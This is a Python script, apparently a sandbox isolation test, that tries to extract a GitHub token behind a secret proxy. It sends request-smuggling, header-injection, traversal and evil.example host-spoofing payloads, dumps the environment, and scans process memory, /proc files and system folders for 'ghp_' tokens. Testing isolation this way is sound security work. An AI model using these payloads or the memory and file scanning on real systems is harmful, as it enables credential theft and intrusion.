"""Tries of a program to get the value of a secret. Each prints its name, and in hexadecimal all bytes that it got."""

import os
import re
import socket
import sys
from concurrent.futures import ThreadPoolExecutor

ALIAS = "github.secrets.rustbox.internal"
# What the host returns: the request as it came, in forms that hosts use.
REFLECTIONS = ("headers", "json", "percent", "form", "hex", "base64", "base64url", "cookie", "location", "other")
HEADERS = {
    "none": "",
    "own": "Authorization: Bearer mine\r\n",
    "two": "authorization: a\r\nAUTHORIZATION: b\r\n",
    "connection": "Connection: authorization, close\r\n",
    "host": "X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n",
    "range": "Range: bytes=0-3\r\n",
    "gzip": "Accept-Encoding: gzip, br, deflate\r\nTE: trailers, gzip\r\n",
    "override": "X-HTTP-Method-Override: TRACE\r\nX-Original-URL: /reflect/json\r\n",
    "expect": "Expect: 100-continue\r\n",
    "keep": "Keep-Alive: timeout=100\r\nProxy-Authorization: Basic eA==\r\n",
}
METHODS = ("GET", "POST", "TRACE", "OPTIONS", "HEAD")
RAW = {
    "absolute": "GET http://{alias}/reflect/json HTTP/1.1\r\nHost: {alias}\r\n\r\n",
    "another host": "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "host header": "GET /reflect/json HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "userinfo": "GET http://evil.example@{alias}/ HTTP/1.1\r\nHost: {alias}\r\n\r\n",
    "connect": "CONNECT evil.example:443 HTTP/1.1\r\nHost: {alias}\r\n\r\n",
    "upgrade": "GET /reflect/json HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "http2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "http0": "GET /reflect/json\r\n\r\n",
    "dots": "GET /a/../reflect/json HTTP/1.1\r\nHost: a\r\n\r\n",
    "encoded dots": "GET /%2e%2e/reflect/json HTTP/1.1\r\nHost: a\r\n\r\n",
    "encoded slash": "GET /reflect%2fjson HTTP/1.1\r\nHost: a\r\n\r\n",
    "backslash": "GET \\reflect\\json HTTP/1.1\r\nHost: a\r\n\r\n",
    "double slash": "GET //evil.example/ HTTP/1.1\r\nHost: a\r\n\r\n",
    "fragment": "GET /reflect/json#@evil.example HTTP/1.1\r\nHost: a\r\n\r\n",
    "two lengths": "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
    "CL.TE": "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
    "TE.TE": "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
    "chunk extension": "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1;a=b\r\nx\r\n0\r\nX-T: 1\r\n\r\n",
    "folded": "GET /reflect/json HTTP/1.1\r\nHost: a\r\nX: a\r\n  Authorization: b\r\n\r\n",
    "space before colon": "GET /reflect/json HTTP/1.1\r\nHost: a\r\nAuthorization : b\r\n\r\n",
    "bare newline": "GET /reflect/json HTTP/1.1\nHost: a\n\n",
    "header injection": "GET /reflect/json?x=%0d%0aX-A:%20b HTTP/1.1\r\nHost: a\r\n\r\n",
    "nul": "GET /reflect/json HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n",
    "long head": "GET / HTTP/1.1\r\nHost: a\r\nX: " + "a" * 100_000 + "\r\n\r\n",
    "many heads": "GET / HTTP/1.1\r\nHost: a\r\n" + "X-A: b\r\n" * 5_000 + "\r\n",
    "pipelined": "GET /reflect/json HTTP/1.1\r\nHost: a\r\n\r\n" * 5,
    "half": "GET /reflect/json HTTP/1.1\r\nHost: a\r\n",
    "garbage": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "slow answer": "GET /slow HTTP/1.1\r\nHost: a\r\n\r\n",
    "endless answer": "GET /endless HTTP/1.1\r\nHost: a\r\n\r\n",
    "compressed answer": "GET /gzip HTTP/1.1\r\nHost: a\r\n\r\n",
    "cut answer": "GET /cut HTTP/1.1\r\nHost: a\r\n\r\n",
    "answer with trailers": "GET /trailers HTTP/1.1\r\nHost: a\r\n\r\n",
    "redirect elsewhere": "GET /redirect HTTP/1.1\r\nHost: a\r\n\r\n",
    "informational": "GET /informational HTTP/1.1\r\nHost: a\r\n\r\n",
    "in single bytes": "GET /bytes HTTP/1.1\r\nHost: a\r\n\r\n",
}

FOLDERS = ("/box", "/tmp", "/etc", "/run", "/var", "/home", "/root", "/dev/shm")
OF_PROCESSES = ("environ", "cmdline", "mountinfo", "net/tcp", "net/unix", "auxv", "stack", "syscall")


def talk(request: bytes, address: str = ALIAS, port: int = 80) -> bytes:
    got = b""
    try:
        with socket.create_connection((address, port), timeout=10) as stream:
            stream.sendall(request)
            stream.shutdown(socket.SHUT_WR)
            while len(got) < 1 << 18 and (part := stream.recv(1 << 16)):
                got += part
    except OSError as error:
        got += str(error).encode()
    return got


def report(name: str, got: bytes) -> None:
    print(name, got.hex()[: 1 << 14])


def search(start: bytes) -> bytes:
    """Return the bytes that follow the start of the value wherever it is in this process's memory and files."""
    expression, found = re.compile(b"".join(b"[%c]" % byte for byte in start) + b".{16}", re.DOTALL), b""
    for line in open("/proc/self/maps"):
        first, last = (int(number, 16) for number in line.split()[0].split("-"))
        try:
            with open("/proc/self/mem", "rb", buffering=0) as memory:
                memory.seek(first)
                found += b"".join(expression.findall(memory.read(min(last - first, 64 << 20))))
        except (OSError, OverflowError, ValueError):
            continue
    places = [os.path.join(root, name) for top in FOLDERS for root, _, names in os.walk(top) for name in names]
    for place in (*places, *(f"/proc/{who}/{what}" for who in ("self", 1, 2) for what in OF_PROCESSES)):
        try:
            with open(place, "rb") as file:
                found += b"".join(expression.findall(file.read(1 << 20)))
        except OSError:
            continue
    return found


requests = {
    f"{reflection} {name}": f"GET /reflect/{reflection} HTTP/1.1\r\nHost: a\r\n{headers}\r\n"
    for name, headers in HEADERS.items()
    for reflection in REFLECTIONS
}
requests |= {
    f"{method} {reflection}": f"{method} /reflect/{reflection} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
    for method in METHODS
    for reflection in REFLECTIONS[:6]
}
requests |= {name: raw.replace("{alias}", ALIAS) for name, raw in RAW.items()}
elsewhere = {
    "another port": (ALIAS, 443),
    "another port of the address": (ALIAS, 8080),
    "the host itself": ("api.test.example", int(sys.argv[1])),
    "a secret of nobody": ("other.secrets.rustbox.internal", 80),
    "the suffix": ("secrets.rustbox.internal", 80),
    "the relay's loopback": ("127.0.0.1", 80),
}
ask = b"GET /reflect/json HTTP/1.1\r\nHost: a\r\n\r\n"
with ThreadPoolExecutor(8) as pool:
    tries = {name: pool.submit(talk, request.encode("latin-1")) for name, request in requests.items()}
    tries |= {name: pool.submit(talk, ask, *place) for name, place in elsewhere.items()}
    for name, got in tries.items():
        report(name, got.result())
report("environment", repr(dict(os.environ)).encode())
report("memory and files", search(b"gh" + b"p_"))
print("tries", len(tries) + 2)
